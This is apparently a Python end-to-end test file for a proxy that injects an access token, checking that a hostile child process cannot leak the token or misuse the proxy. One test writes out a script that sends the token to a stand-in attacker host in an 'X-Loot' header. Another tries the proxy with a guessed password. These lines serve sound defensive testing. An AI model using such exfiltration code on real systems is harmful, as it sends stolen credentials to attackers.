"""A hostile child in a real run, and one canary: the real token."""

import json
from pathlib import Path

from tests.e2e.desk import PYTHON, Desk
from tests.e2e.hostile import TUNNELS

SCRIPT = Path(__file__).with_name("hostile.py")


def test_a_hostile_child_never_makes_the_token_go_elsewhere_or_come_back(connected: Desk) -> None:
    done = connected.run(PYTHON, SCRIPT)
    assert done.returncode == 0, done.stderr
    outcomes = {line["attempt"]: line["outcome"] for line in map(json.loads, done.stdout.splitlines())}
    assert outcomes.keys() >= TUNNELS.keys()
    token = connected.access_token()
    arrived = connected.standin.wire_contains(token.encode())
    assert {(seen.host, seen.sni, seen.tls) for seen in arrived} == {("discord.com", "discord.com", True)}
    # The stand-in echoes what it was sent, also where the credential was rightly injected.
    assert [name for name, outcome in outcomes.items() if token in outcome] == []
    assert "username" in outcomes["honest"]
    refused = [name for name, outcome in outcomes.items() if "X-Authsome-Refused" in outcome]
    assert {"two hosts", "absolute form", "trace", "cleartext", "discord, sni evil"} <= set(refused)


def test_the_search_finds_a_token_that_does_go_elsewhere(connected: Desk) -> None:
    """The negative twin: a child that somehow had the token would be seen."""
    token = connected.access_token()
    script = (
        "import sys, urllib.request as u\n"
        "u.urlopen(u.Request('https://evil.example/standin/echo', headers={'X-Loot': sys.argv[1]})).read()"
    )
    assert connected.python(script, token).returncode == 0
    assert [seen.host for seen in connected.standin.wire_contains(token.encode())] == ["evil.example"]


def test_another_process_of_the_machine_cannot_use_the_proxy_of_a_run(connected: Desk) -> None:
    script = (
        "import os, subprocess, sys\n"
        "from urllib.parse import urlsplit\n"
        "port = urlsplit(os.environ['HTTPS_PROXY']).port\n"
        "run = lambda proxy: subprocess.run(['curl', '-sS', '-o', '/dev/null', '-w', '%{http_connect}',"
        " '-x', proxy, 'https://discord.com/'], capture_output=True, text=True).stdout\n"
        "print(run(f'http://127.0.0.1:{port}'), run(f'http://authsome:guess@127.0.0.1:{port}'),"
        " run(os.environ['HTTPS_PROXY']))"
    )
    done = connected.python(script)
    assert done.stdout.split() == ["407", "407", "200"], done.stderr
